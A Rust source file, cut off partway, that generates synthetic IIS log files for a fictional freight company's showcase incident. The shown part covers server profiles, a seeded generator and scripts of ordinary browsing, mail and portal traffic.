//! Makes the showcase incident in `testdata/showcase`.
//!
//! Everything here is made up: the company "Example Freight", its servers,
//! people, visitors and attackers. All addresses come from documentation and
//! private ranges, all names from example domains. No line was copied from a
//! log that a real server wrote; only the layouts, the shapes of the attacks
//! and the way in which each IIS version writes them down are real.
//!
//! The maker has no clock and no source of chance but a small generator that
//! is seeded with the path of the file it fills, so the same bytes come out
//! on every machine. A test compares them with the committed files.
//!
//! A day is a set of ordinary *scripts* (what a visitor does), the *waves* of
//! the worms, and the *steps* that people took by hand.

/// Seconds since midnight.
const fn hms(hour: u64, minute: u64, second: u64) -> u64 {
    hour * 3600 + minute * 60 + second
}

/// A linear congruential generator (the constants of Knuth's MMIX).
struct Dice(u64);

impl Dice {
    /// FNV-1a of the text is the seed.
    fn new(seed: &str) -> Self {
        let mix = |hash: u64, byte: u8| {
            (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
        };
        Self(seed.bytes().fold(0xcbf2_9ce4_8422_2325, mix))
    }

    /// A number below `bound`; 0 for an empty range.
    fn below(&mut self, bound: u64) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33).checked_rem(bound).unwrap_or(0)
    }

    /// True in `percent` of 100 throws.
    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }

    /// The position that a throw weighted by `weights` falls on.
    fn weighted(&mut self, weights: impl Iterator<Item = u64> + Clone) -> u64 {
        let mut throw = self.below(weights.clone().sum());
        let mut at = 0;
        for weight in weights {
            if throw < weight {
                break;
            }
            throw -= weight;
            at += 1;
        }
        at
    }

    fn pick(&mut self, from: &[&'static str]) -> &'static str {
        let at = self.below(from.len() as u64);
        nth(from, at).copied().unwrap_or("-")
    }
}

fn nth<T>(from: &[T], at: u64) -> Option<&T> {
    from.get(usize::try_from(at).ok()?)
}

// ---------------------------------------------------------------- servers

/// How a server of 2001 answers the worms.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Guard {
    /// Nothing was done: the worms get in.
    Open,
    /// The script mappings were removed.
    Unmapped,
    /// `URLScan` refuses the request before IIS looks at it.
    UrlScan,
    /// Patched, but Index Server is still mapped and answers.
    Patched,
    /// Every page wants a logon.
    Logon,
    /// A later server, which the worms of 2001 do not concern.
    Modern,
}

struct Server {
    name: &'static str,
    ip: &'static str,
    port: u64,
    /// The start of the addresses of the people inside.
    lan: &'static str,
    /// What the pages call themselves in a referer.
    url: &'static str,
    software: &'static str,
    fields: &'static str,
    /// Path of a log file under the server's folder, without its date.
    stamp: &'static str,
    guard: Guard,
    /// Scripts played on a full working day.
    volume: u64,
    scripts: &'static [Script],
}

const IIS4: &str = "Microsoft Internet Information Server 4.0";
const IIS5: &str = "Microsoft Internet Information Services 5.0";
const IIS10: &str = "Microsoft Internet Information Services 10.0";

const LONG_2001: &str = "date time c-ip cs-username s-sitename \
    s-computername s-ip s-port cs-method cs-uri-stem cs-uri-query sc-status \
    sc-win32-status sc-bytes cs-bytes time-taken cs-version cs(User-Agent) \
    cs(Referer)";
const SHORT_2001: &str = "date time c-ip cs-username s-ip s-port cs-method \
    cs-uri-stem cs-uri-query sc-status cs(User-Agent)";
const TIME_ONLY: &str = "time c-ip cs-username cs-method cs-uri-stem \
    cs-uri-query sc-status sc-win32-status sc-bytes cs-bytes time-taken \
    cs(User-Agent) cs(Referer)";
const DEFAULT_10: &str = "date time s-ip cs-method cs-uri-stem cs-uri-query \
    s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status \
    sc-substatus sc-win32-status time-taken";
const HTTP_API: &str = "date time c-ip c-port s-ip s-port cs-version \
    cs-method cs-uri streamid sc-status s-siteid s-reason s-queuename";

const WEB1: Server = Server {
    name: "FREIGHT-WEB1",
    ip: "10.1.0.11",
    port: 80,
    lan: "10.1",
    url: "http://www.example.com",
    software: IIS5,
    fields: LONG_2001,
    stamp: "LogFiles/W3SVC1/ex",
    guard: Guard::Open,
    volume: 37,
    scripts: PUBLIC_SITE,
};
const WEB2: Server = Server {
    name: "FREIGHT-WEB2",
    ip: "10.1.0.12",
    url: "http://rail.example.com",
    software: IIS4,
    fields: TIME_ONLY,
    guard: Guard::Unmapped,
    scripts: RAIL_SITE,
    ..WEB1
};
const INTRA: Server = Server {
    name: "FREIGHT-INTRA",
    ip: "10.1.0.13",
    url: "http://intra.example.com",
    fields: SHORT_2001,
    guard: Guard::UrlScan,
    scripts: INTRANET,
    ..WEB1
};
const SHOP: Server = Server {
    name: "FREIGHT-SHOP",
    ip: "10.1.0.14",
    url: "http://shop.example.com",
    guard: Guard::Patched,
    scripts: SHOP_SITE,
    ..WEB1
};
const PARTNER: Server = Server {
    name: "FREIGHT-PARTNER",
    ip: "10.1.0.15",
    url: "http://partner.example.com",
    guard: Guard::Logon,
    scripts: PARTNER_SITE,
    ..WEB1
};
const EXCH01: Server = Server {
    name: "EXCH01",
    ip: "10.2.0.21",
    port: 443,
    lan: "10.2",
    url: "https://mail.example.com",
    software: IIS10,
    fields: DEFAULT_10,
    stamp: "inetpub/logs/LogFiles/W3SVC1/u_ex",
    guard: Guard::Modern,
    volume: 72,
    scripts: MAIL_SITE,
};
const SP01: Server = Server {
    name: "SP01",
    ip: "10.2.0.31",
    url: "https://portal.example.com",
    volume: 46,
    scripts: PORTAL_SITE,
    ..EXCH01
};

/// The days of an incident and how busy each is, in percent.
const DAYS_2001: &[(&str, u64)] = &[
    ("2001-07-17", 100),
    ("2001-07-19", 105),
    ("2001-07-20", 90),
    ("2001-08-05", 35),
    ("2001-08-06", 100),
    ("2001-09-18", 95),
    ("2001-09-19", 100),
    ("2001-10-03", 90),
];
const DAYS_2021: &[(&str, u64)] = &[
    ("2021-08-16", 100),
    ("2021-08-18", 105),
    ("2021-08-19", 100),
    ("2021-08-20", 80),
];
const DAYS_2025: &[(&str, u64)] = &[
    ("2025-07-16", 100),
    ("2025-07-17", 100),
    ("2025-07-18", 90),
    ("2025-07-19", 30),
];

// ------------------------------------------------------- ordinary traffic

/// One request as a script knows it. `{name}` in the texts is filled in.
#[derive(Clone, Copy)]
struct Call {
    method: &'static str,
    stem: &'static str,
    query: &'static str,
    status: u64,
    sub: u64,
    win32: u64,
    sent: u64,
    slow: u64,
}

const fn get(stem: &'static str, query: &'static str, sent: u64) -> Call {
    let method = "GET";
    Call { method, stem, query, status: 200, sub: 0, win32: 0, sent, slow: 30 }
}

const fn post(stem: &'static str, query: &'static str, sent: u64) -> Call {
    get(stem, query, sent).by("POST").slow(90)
}

/// A file that is not there, with the 404 page of IIS 5.
const fn missing(stem: &'static str) -> Call {
    get(stem, "-", 3387).answered(404, 0, 2)
}

/// The first leg of a logon: refused, no credentials sent.
const fn logon(stem: &'static str, query: &'static str) -> Call {
    get(stem, query, 4431).answered(401, 2, 5)
}

impl Call {
    const fn by(self, method: &'static str) -> Self {
        Self { method, ..self }
    }

    const fn answered(self, status: u64, sub: u64, win32: u64) -> Self {
        Self { status, sub, win32, ..self }
    }

    const fn slow(self, slow: u64) -> Self {
        Self { slow, ..self }
    }

    fn is_static(&self) -> bool {
        let ends = [".gif", ".jpg", ".css", ".js", ".htm", ".png"];
        ends.iter().any(|end| self.stem.ends_with(end))
    }

    /// Seconds before it at most: a picture comes at once, a page is read.
    fn pause(&self) -> u64 {
        if self.is_static() && !self.is_page() { 2 } else { 45 }
    }

    fn is_page(&self) -> bool {
        let ends = [".asp", ".aspx", ".htm", "/"];
        ends.iter().any(|end| self.stem.ends_with(end))
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Who {
    /// Anybody on the Internet.
    Public,
    /// People in the company's own network.
    Staff,
    /// Always the same machine, around the clock.
    Machine(&'static str),
}

/// What one visitor does in one go.
struct Script {
    /// How often it is played, against the other scripts of the server.
    share: u64,
    who: Who,
    /// The logged user; `-` is nobody.
    user: &'static str,
    agents: &'static [&'static str],
    calls: &'static [Call],
}

const BROWSERS_2001: &[&str] = &[
    "Mozilla/4.0+(compatible;+MSIE+5.0;+Windows+98;+DigExt)",
    "Mozilla/4.0+(compatible;+MSIE+5.01;+Windows+NT+5.0)",
    "Mozilla/4.0+(compatible;+MSIE+5.5;+Windows+98)",
    "Mozilla/4.0+(compatible;+MSIE+5.5;+Windows+NT+5.0)",
    "Mozilla/4.0+(compatible;+MSIE+5.5;+Windows+NT+4.0)",
    "Mozilla/4.0+(compatible;+MSIE+5.0;+Mac_PowerPC)",
    "Mozilla/4.0+(compatible;+MSIE+4.01;+Windows+95)",
    "Mozilla/4.7+[en]+(WinNT;+U)",
    "Mozilla/4.76+[en]+(X11;+U;+Linux+2.2.16+i686)",
    "Mozilla/4.08+[en]+(Win98;+I)",
];
const OFFICE_2001: &[&str] = &[
    "Mozilla/4.0+(compatible;+MSIE+5.01;+Windows+NT+5.0)",
    "Mozilla/4.0+(compatible;+MSIE+5.0;+Windows+NT;+DigExt)",
];
const GOOGLEBOT: &[&str] =
    &["Googlebot/2.1+(+http://www.googlebot.com/bot.html)"];
const SLURP: &[&str] = &["Mozilla/5.0+(Slurp/cat;+slurp@inktomi.com;\
    +http://www.inktomi.com/slurp.html)"];
const SCOOTER: &[&str] = &["Scooter/3.2"];
const CHROME: &str = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+\
    AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/92.0.4515.131+\
    Safari/537.36";
const EDGE: &str = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+\
    AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/138.0.0.0+\
    Safari/537.36+Edg/138.0.0.0";
const FIREFOX_120: &str = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64;\
    +rv:120.0)+Gecko/20100101+Firefox/120.0";
const OUTLOOK: &[&str] = &["Microsoft+Office/16.0+(Windows+NT+10.0;\
    +Microsoft+Outlook+16.0.13127;+Pro)"];
const PHONES: &[&str] = &[
    "Apple-iPhone12C1/1807.69",
    "Apple-iPhone10C4/1806.100",
    "Android-SAMSUNG-SM-G991B/101.110003",
];

/// A visit by anybody with a browser of 2001.
const fn browse(share: u64, calls: &'static [Call]) -> Script {
    let (who, user) = (Who::Public, "-");
    Script { share, who, user, agents: BROWSERS_2001, calls }
}

/// A search engine, always from the same machine.
const fn crawl(
    ip: &'static str,
    agents: &'static [&'static str],
    calls: &'static [Call],
) -> Script {
    Script { share: 3, who: Who::Machine(ip), user: "-", agents, calls }
}

const PUBLIC_SITE: &[Script] = &[
    browse(30, WEB1_HOME),
    browse(24, WEB1_TRACK),
    browse(12, WEB1_QUOTE),
    browse(8, WEB1_NEWS),
    browse(5, WEB1_SLIPS),
    crawl("192.0.2.66", GOOGLEBOT, WEB1_ROBOT),
    crawl("198.51.100.17", SLURP, WEB1_ROBOT),
];
const WEB1_HOME: &[Call] = &[
    get("/default.asp", "-", 9120),
    get("/css/site.css", "-", 2210),
    get("/images/logo.gif", "-", 4318),
    get("/images/truck.jpg", "-", 18_244),
    get("/images/spacer.gif", "-", 43),
    get("/about.htm", "-", 6120),
    get("/images/fleet.jpg", "-", 25_901),
    get("/contact.asp", "office={city}", 5310),
];
const WEB1_TRACK: &[Call] = &[
    get("/default.asp", "-", 9120),
    get("/images/logo.gif", "-", 4318),
    get("/track/default.asp", "-", 5011),
    get("/track/result.asp", "no=EF{n}", 7205).slow(260),
    get("/images/map_{city}.gif", "-", 12_880),
    get("/track/result.asp", "no=EF{n}&detail=1", 9044).slow(310),
];
const WEB1_QUOTE: &[Call] = &[
    get("/rates/", "-", 5344),
    get("/images/logo.gif", "-", 4318),
    get("/rates/quote.asp", "from={city}&to={city}&kg={n}", 6630).slow(180),
    post("/rates/order.asp", "-", 5120),
    get("/rates/thanks.htm", "-", 2950),
    get("/download/freightcalc.exe", "-", 412_160).slow(48_000),
];
const WEB1_NEWS: &[Call] = &[
    get("/search.asp", "q={word}", 7730).slow(420),
    get("/news/2001/index.htm", "-", 8801),
    get("/news/2001/story{n}.htm", "-", 6655),
    get("/images/news.gif", "-", 2290),
];
const WEB1_SLIPS: &[Call] = &[
    missing("/favicon.ico"),
    missing("/tracking.htm"),
    get("/default.asp", "-", 9120),
    get("/MSOffice/cltreq.asp", DISCUSS, 3387).answered(404, 0, 2),
    get("/_vti_bin/owssvr.dll", DISCUSS, 3387).answered(404, 0, 2),
];
/// What the discussion bar of Office 2000 asks every site.
const DISCUSS: &str = "UL=1&ACT=4&BUILD=2614&STRMVER=4&CAPREQ=0";
const WEB1_ROBOT: &[Call] = &[
    get("/robots.txt", "-", 310),
    get("/default.asp", "-", 9120),
    get("/about.htm", "-", 6120),
    get("/news/2001/index.htm", "-", 8801),
    get("/track/default.asp", "-", 5011),
];

const RAIL_SITE: &[Script] = &[
    browse(30, RAIL_HOME),
    browse(20, RAIL_TIMES),
    browse(4, RAIL_SLIPS),
    crawl("192.0.2.66", GOOGLEBOT, RAIL_ROBOT),
    crawl("203.0.113.42", SCOOTER, RAIL_ROBOT),
];
const RAIL_HOME: &[Call] = &[
    get("/default.htm", "-", 4120),
    get("/graphics/title.gif", "-", 6310),
    get("/graphics/bar.gif", "-", 870),
    get("/graphics/wagon.jpg", "-", 21_377),
    get("/services.htm", "-", 5502),
    get("/graphics/yard.jpg", "-", 17_020),
];
const RAIL_TIMES: &[Call] = &[
    get("/timetable/default.asp", "-", 3905),
    get("/graphics/title.gif", "-", 6310),
    get("/timetable/line.asp", "from={city}&to={city}", 5210).slow(240),
    get("/timetable/line.asp", "from={city}&to={city}&day=2", 5010).slow(230),
    get("/timetable/print.asp", "id={n}", 3310).slow(120),
];
const RAIL_SLIPS: &[Call] = &[
    missing("/favicon.ico"),
    missing("/timetables/"),
    get("/default.htm", "-", 4120),
    missing("/graphics/Titel.gif"),
];
const RAIL_ROBOT: &[Call] = &[
    get("/robots.txt", "-", 122).answered(404, 0, 2),
    get("/default.htm", "-", 4120),
    get("/services.htm", "-", 5502),
    get("/timetable/default.asp", "-", 3905),
];

/// A visit by somebody at work.
const fn office(
    share: u64,
    user: &'static str,
    calls: &'static [Call],
) -> Script {
    Script { share, who: Who::Staff, user, agents: OFFICE_2001, calls }
}

const INTRANET: &[Script] = &[
    office(30, "-", INTRA_HOME),
    office(20, "-", INTRA_PHONE),
    office(14, "-", INTRA_FORMS),
    office(3, "-", INTRA_SLIPS),
];
const INTRA_HOME: &[Call] = &[
    get("/default.asp", "-", 5100),
    get("/img/head.gif", "-", 3110),
    get("/img/menu.gif", "-", 990),
    get("/canteen/menu.htm", "-", 4022),
    get("/news/item.asp", "id={n}", 3801),
];
const INTRA_PHONE: &[Call] = &[
    get("/phone/default.asp", "-", 3005),
    get("/img/head.gif", "-", 3110),
    get("/phone/list.asp", "office={city}", 8122),
    get("/phone/person.asp", "no={n}", 2904),
];
const INTRA_FORMS: &[Call] = &[
    get("/forms/", "-", 3312),
    get("/forms/leave.asp", "-", 5230),
    post("/forms/leave.asp", "step=2", 2011),
    get("/forms/travel.doc", "-", 38_912),
];
const INTRA_SLIPS: &[Call] =
    &[missing("/favicon.ico"), missing("/canteen/menue.htm")];

const SHOP_SITE: &[Script] = &[
    browse(30, SHOP_LOOK),
    browse(20, SHOP_BUY),
    browse(4, SHOP_SLIPS),
    crawl("198.51.100.17", SLURP, SHOP_ROBOT),
];
const SHOP_LOOK: &[Call] = &[
    get("/shop/default.asp", "-", 7210),
    get("/shop/img/head.gif", "-", 5120),
    get("/shop/img/cart.gif", "-", 610),
    get("/shop/list.asp", "cat={n}", 11_020).slow(350),
    get("/shop/img/p{n}.jpg", "-", 8320),
    get("/shop/item.asp", "id={n}", 6620).slow(140),
    get("/shop/img/p{n}.jpg", "-", 9110),
];
const SHOP_BUY: &[Call] = &[
    get("/shop/item.asp", "id={n}", 6620).slow(140),
    get("/shop/img/head.gif", "-", 5120),
    post("/shop/basket.asp", "add={n}", 4210).slow(210),
    get("/shop/checkout.asp", "-", 5530),
    post("/shop/checkout.asp", "step=2", 330).answered(302, 0, 0),
    get("/shop/thanks.asp", "order={n}", 3100),
];
const SHOP_SLIPS: &[Call] = &[
    missing("/favicon.ico"),
    missing("/shop.htm"),
    get("/shop/default.asp", "-", 7210),
    get("/shop/search.asp", "q=select+{word}", 5020).slow(390),
    get("/shop/search.asp", "q=european+union+{word}", 4480).slow(390),
];
const SHOP_ROBOT: &[Call] = &[
    get("/robots.txt", "-", 98),
    get("/shop/default.asp", "-", 7210),
    get("/shop/list.asp", "cat={n}", 11_020).slow(350),
    get("/shop/item.asp", "id={n}", 6620).slow(140),
];

/// A trading partner, who logs on from outside.
const fn partner(share: u64, calls: &'static [Call]) -> Script {
    let user = "EXAMPLE\\{user}";
    Script { share, who: Who::Public, user, agents: OFFICE_2001, calls }
}

const PARTNER_SITE: &[Script] = &[
    partner(24, PARTNER_BOOK),
    partner(20, PARTNER_LIST),
    office(14, "EXAMPLE\\{user}", PARTNER_LIST),
    browse(3, PARTNER_SLIPS),
];
const PARTNER_BOOK: &[Call] = &[
    logon("/booking/", "-"),
    get("/booking/", "-", 4820),
    get("/img/head.gif", "-", 3901),
    get("/booking/new.asp", "from={city}&to={city}", 7702).slow(160),
    post("/booking/new.asp", "step=2", 5018).slow(340),
    get("/booking/paper.asp", "no={n}", 15_520).slow(520),
];
const PARTNER_LIST: &[Call] = &[
    logon("/default.asp", "-"),
    get("/default.asp", "-", 5222),
    get("/img/head.gif", "-", 3901),
    get("/manifest/list.asp", "port={city}", 12_904).slow(410),
    get("/manifest/show.asp", "no={n}&lang=en", 8830).slow(190),
];
const PARTNER_SLIPS: &[Call] =
    &[logon("/", "-"), logon("/favicon.ico", "-"), logon("/robots.txt", "-")];

const SIGNED: &str = "EXAMPLE\\{user}";
const CLAIMS: &str = "0#.w|example\\{user}";
/// What Exchange adds to the query of nearly every request.
macro_rules! traced {
    ($query:literal) => {
        concat!($query, "&CorrelationID=<empty>;&cafeReqId={id};")
    };
}

const MAIL_SITE: &[Script] = &[
    mail(12, Who::Public, "-", &[CHROME], OWA_LOGON),
    mail(14, Who::Public, SIGNED, &[CHROME], OWA_READ),
    mail(26, Who::Public, SIGNED, PHONES, PHONE_SYNC),
    mail(22, Who::Staff, SIGNED, OUTLOOK, OUTLOOK_MAPI),
    mail(10, Who::Staff, SIGNED, OUTLOOK, OUTLOOK_EWS),
    mail(3, Who::Public, SIGNED, PHONES, PHONE_SETUP),
    mail(8, Who::Machine("127.0.0.1"), "-", &["AMProbe/Local"], PROBES),
    mail(5, Who::Machine("::1"), "EXAMPLE\\EXCH01$", WINRM, MONITOR),
    mail(2, Who::Public, "-", &[CHROME], MAIL_SLIPS),
];
const WINRM: &[&str] = &["Microsoft+WinRM+Client"];
const fn mail(
    share: u64,
    who: Who,
    user: &'static str,
    agents: &'static [&'static str],
    calls: &'static [Call],
) -> Script {
    Script { share, who, user, agents, calls }
}
const OWA_URL: &str = "url=https%3a%2f%2fmail.example.com%2fowa%2f&reason=0";
const OWA_LOGON: &[Call] = &[
    get("/owa/", traced!(""), 0).answered(302, 0, 0),
    get("/owa/auth/logon.aspx", OWA_URL, 0),
    get("/owa/auth/15.1.2308/themes/resources/logon.css", "-", 0),
    post("/owa/auth.owa", traced!(""), 0).answered(302, 0, 0),
];
const OWA_READ: &[Call] = &[
    get("/owa/", traced!(""), 0).slow(320),
    get("/owa/prem/15.1.2308.8/resources/images/0/sprite1.png", "-", 0),
    post("/owa/sessiondata.ashx", traced!("appcacheclient=0"), 0),
    post(
        "/owa/service.svc",
        traced!("action=FindConversation&EP=1&ID=-{n}&AC=1"),
        0,
    ),
    post(
        "/owa/service.svc",
        traced!("action=GetConversationItems&EP=1&ID=-{n}&AC=1"),
        0,
    ),
    post("/owa/service.svc", traced!("action=CreateItem&EP=1&ID=-{n}"), 0),
];
const PHONE_SYNC: &[Call] = &[
    post("/Microsoft-Server-ActiveSync/default.eas", EAS_PING, 0)
        .slow(590_000),
    post("/Microsoft-Server-ActiveSync/default.eas", EAS_SYNC, 0),
    post("/Microsoft-Server-ActiveSync/default.eas", EAS_PING, 0)
        .slow(470_000),
];
const EAS_PING: &str =
    traced!("User={user}&DeviceId=EXAMPLE{own}&DeviceType=iPhone&Cmd=Ping");
const EAS_SYNC: &str =
    traced!("User={user}&DeviceId=EXAMPLE{own}&DeviceType=iPhone&Cmd=Sync");
const MAILBOX: &str =
    traced!("MailboxId=00000000-0000-4000-8000-00000000{own}@example.com");
const OUTLOOK_MAPI: &[Call] = &[
    post("/mapi/emsmdb/", MAILBOX, 0).answered(401, 1, 2_148_074_254),
    post("/mapi/emsmdb/", MAILBOX, 0),
    post("/mapi/nspi/", MAILBOX, 0),
    post("/mapi/emsmdb/", MAILBOX, 0).slow(60_000),
];
const OUTLOOK_EWS: &[Call] = &[
    post("/autodiscover/autodiscover.xml", traced!(""), 0).answered(
        401,
        1,
        2_148_074_254,
    ),
    post("/autodiscover/autodiscover.xml", traced!(""), 0),
    post("/EWS/Exchange.asmx", traced!(""), 0),
    get("/OAB/5d1e0000-0000-4000-8000-000000000001/oab.xml", "-", 0),
];
const PHONE_SETUP: &[Call] = &[
    get("/autodiscover/autodiscover.json", AUTO_V2, 0),
    post("/Microsoft-Server-ActiveSync/default.eas", EAS_SYNC, 0),
];
const AUTO_V2: &str =
    "Email={user}%40example.com&Protocol=ActiveSync&RedirectCount=1";
const PROBES: &[Call] = &[
    get("/owa/healthcheck.htm", "-", 0),
    get("/ews/healthcheck.htm", "-", 0),
    get("/mapi/healthcheck.htm", "-", 0),
    get("/Microsoft-Server-ActiveSync/healthcheck.htm", "-", 0),
];
const MONITOR: &[Call] = &[post(
    "/powershell",
    traced!("clientApplication=ActiveMonitor;PSVersion=5.1.14393.4530"),
    0,
)];
const MAIL_SLIPS: &[Call] =
    &[missing("/favicon.ico"), missing("/robots.txt"), missing("/webmail")];

const PORTAL_SITE: &[Script] = &[
    mail(26, Who::Staff, CLAIMS, &[EDGE], PORTAL_HOME),
    mail(18, Who::Staff, CLAIMS, &[EDGE], PORTAL_FILES),
    mail(10, Who::Staff, CLAIMS, OUTLOOK, PORTAL_OFFICE),
    mail(4, Who::Public, "-", &[EDGE], PORTAL_LEAVE),
    mail(3, Who::Machine("10.2.0.31"), CRAWLER, ROBOT_SP, PORTAL_BOT),
];
const CRAWLER: &str = "EXAMPLE\\svc-crawl";
const ROBOT_SP: &[&str] = &["Mozilla/4.0+(compatible;+MSIE+4.01;\
    +Windows+NT;+MS+Search+6.0+Robot)"];
const PORTAL_HOME: &[Call] = &[
    logon("/sites/ops/SitePages/Home.aspx", "-"),
    logon("/sites/ops/SitePages/Home.aspx", "-").answered(
        401,
        1,
        2_148_074_254,
    ),
    get("/sites/ops/SitePages/Home.aspx", "-", 0).slow(240),
    get("/_layouts/15/1033/initstrings.js", "rev=3D{n}TAG0", 0),
    get("/_layouts/15/init.js", "rev=7A{n}TAG0", 0),
    get("/_layouts/15/images/spcommon.png", "rev=47", 0),
    post("/_vti_bin/client.svc/ProcessQuery", "-", 0),
    get("/_api/web/lists/getbytitle('Tasks')/items", "$top={n}", 0),
];
const PORTAL_FILES: &[Call] = &[
    get("/sites/ops/Shared+Documents/Forms/AllItems.aspx", "-", 0).slow(260),
    get("/_layouts/15/core.js", "rev=51{n}TAG0", 0),
    get("/sites/ops/Shared+Documents/Rates+2025+{city}.xlsx", "-", 0),
    get("/_layouts/15/WopiFrame.aspx", "sourcedoc=%7B{id}%7D", 0).slow(310),
    post("/_vti_bin/client.svc/ProcessQuery", "-", 0),
];
const PORTAL_OFFICE: &[Call] = &[
    get("/sites/ops/Shared+Documents", "-", 0).by("OPTIONS"),
    get("/sites/ops/Shared+Documents/Plan+{n}.docx", "-", 0).by("HEAD"),
    get("/sites/ops/Shared+Documents/Plan+{n}.docx", "-", 0),
    post("/_vti_bin/cellstorage.svc/CellStorageService", "-", 0),
];
const PORTAL_LEAVE: &[Call] = &[
    get("/_layouts/15/SignOut.aspx", "-", 0),
    missing("/favicon.ico"),
    logon("/", "-"),
];
const PORTAL_BOT: &[Call] = &[
    get("/sites/ops/SitePages/Home.aspx", "-", 0).slow(240),
    get("/sites/ops/Shared+Documents/Forms/AllItems.aspx", "-", 0),
    post("/_vti_bin/sitedata.asmx", "-", 0),
];

const CITIES: &[&str] =
    &["Hamburg", "Rotterdam", "Genoa", "Leeds", "Oslo", "Lyon", "Gdansk"];
const WORDS: &[&str] =
    &["pallet", "customs", "tariff", "reefer", "container", "insurance"];
const NAMES: &[&str] = &[
    "anna.berg",
    "tom.keller",
    "m.rossi",
    "j.doe",
    "s.novak",
    "p.larsen",
    "e.martin",
    "k.wood",
];

// ----------------------------------------------------------------- a day

/// One request as the server saw it.
#[derive(Clone)]
struct Visit {
    at: u64,
    client: String,
    user: String,
    method: &'static str,
    stem: Vec<u8>,
    query: String,
    status: u64,
    sub: u64,
    win32: u64,
    sent: u64,
    received: u64,
    taken: u64,
    version: &'static str,
    agent: &'static str,
    referer: String,
}

/// A request with nothing in it yet.
fn quiet(at: u64) -> Visit {
    let none = || String::from("-");
    Visit {
        at,
        client: none(),
        user: none(),
        method: "GET",
        stem: Vec::new(),
        query: none(),
        status: 200,
        sub: 0,
        win32: 0,
        sent: 0,
        received: 0,
        taken: 16,
        version: "HTTP/1.1",
        agent: "-",
        referer: none(),
    }
}

impl Visit {
    fn take(&mut self, call: &Call) {
        self.method = call.method;
        self.stem = call.stem.into();
        self.query = call.query.into();
        self.status = call.status;
        self.sub = call.sub;
        self.win32 = call.win32;
        self.sent = call.sent;
        let newer = self.agent.contains("MSIE");
        self.version = if newer { "HTTP/1.1" } else { "HTTP/1.0" };
    }
}

/// The log file of one server for one day, while it is being filled.
struct Day<'a> {
    server: &'a Server,
    date: &'static str,
    dice: Dice,
    /// Whole lines or raw bytes, with the second they were written in.
    rows: Vec<(u64, Vec<u8>)>,
}

fn clock(at: u64) -> String {
    format!("{:02}:{:02}:{:02}", at / 3600, at / 60 % 60, at % 60)
}

impl<'a> Day<'a> {
    fn new(server: &'a Server, date: &'static str) -> Self {
        let dice = Dice::new(&format!("{} {date}", server.name));
        Self { server, date, dice, rows: Vec::new() }
    }

    fn add(&mut self, visit: &Visit) {
        let mut line = Vec::new();
        for (nth, name) in self.server.fields.split(' ').enumerate() {
            if nth > 0 {
                line.push(b' ');
            }
            line.extend_from_slice(&self.cell(visit, name));
        }
        line.extend_from_slice(b"\r\n");
        self.rows.push((visit.at, line));
    }

    fn cell(&self, visit: &Visit, name: &str) -> Vec<u8> {
        match name {
            "date" => self.date.into(),
            "time" => clock(visit.at).into(),
            "c-ip" => visit.client.clone().into(),
            "cs-username" => visit.user.clone().into(),
            "s-sitename" => "W3SVC1".into(),
            "s-computername" => self.server.name.into(),
            "s-ip" => self.server.ip.into(),
            "s-port" => self.server.port.to_string().into(),
            "cs-method" => visit.method.into(),
            "cs-uri-stem" => visit.stem.clone(),
            "cs-uri-query" => visit.query.clone().into(),
            "sc-status" => visit.status.to_string().into(),
            "sc-substatus" => visit.sub.to_string().into(),
            "sc-win32-status" => visit.win32.to_string().into(),
            "sc-bytes" => visit.sent.to_string().into(),
            "cs-bytes" => visit.received.to_string().into(),
            "time-taken" => visit.taken.to_string().into(),
            "cs-version" => visit.version.into(),
            "cs(User-Agent)" => visit.agent.into(),
            "cs(Referer)" => visit.referer.clone().into(),
            _ => "-".into(),
        }
    }

    /// The block that the server writes whenever it opens the file.
    fn header(&self, at: u64) -> Vec<u8> {
        let (software, fields) = (self.server.software, self.server.fields);
        let (date, time) = (self.date, clock(at));
        format!(
            "#Software: {software}\r\n#Version: 1.0\r\n\
             #Date: {date} {time}\r\n#Fields: {fields}\r\n"
        )
        .into()
    }

    fn restart(&mut self, at: u64) {
        let header = self.header(at);
        self.rows.push((at, header));
    }

    /// Nothing was logged between the two times.
    fn outage(&mut self, from: u64, to: u64) {
        self.rows.retain(|row| row.0 < from || row.0 >= to);
    }

    fn finish(mut self) -> (String, Vec<u8>) {
        self.rows.sort_by_key(|row| row.0);
        let first = self.rows.first().map_or(0, |row| row.0);
        let mut bytes = self.header(first);
        for (_, row) in &self.rows {
            bytes.extend_from_slice(row);
        }
        let day = self.date.get(2..).unwrap_or_default().replace('-', "");
        let Server { name, stamp, .. } = self.server;
        (format!("{name}/{stamp}{day}.log"), bytes)
    }
}

/// Visits an hour of the day, in UTC: anybody, and people at work.
const HOURS_PUBLIC: [u64; 24] = [
    5, 4, 3, 2, 2, 2, 3, 5, 7, 9, 10, 11, 13, 15, 17, 18, 18, 17, 15, 13, 12,
    10, 8, 6,
];
const HOURS_STAFF: [u64; 24] = [
    0, 0, 0, 0, 0, 1, 4, 12, 18, 18, 16, 12, 10, 15, 16, 14, 8, 3, 1, 0, 0, 0,
    0, 0,
];

impl Day<'_> {
    fn ordinary(&mut self, percent: u64) {
        let scripts = self.server.scripts;
        for _ in 0..self.server.volume * percent / 100 {
            let shares = scripts.iter().map(|script| script.share);
            let at = self.dice.weighted(shares);
            if let Some(script) = nth(scripts, at) {
                self.play(script);
            }
        }
    }

    fn hour(&mut self, who: Who) -> u64 {
        match who {
            Who::Public => self.dice.weighted(HOURS_PUBLIC.into_iter()),
            Who::Staff => self.dice.weighted(HOURS_STAFF.into_iter()),
            Who::Machine(_) => self.dice.below(24),
        }
    }

    fn client(&mut self, who: Who) -> String {
        match who {
            Who::Public => {
                let nets = ["192.0.2", "198.51.100", "203.0.113"];
                let net = self.dice.pick(&nets);
                format!("{net}.{}", 1 + self.dice.below(99))
            }
            Who::Staff => {
                let lan = self.server.lan;
                let (floor, seat) = (self.dice.below(4), self.dice.below(40));
                format!("{lan}.{}.{}", 2 + floor, 90 + seat)
            }
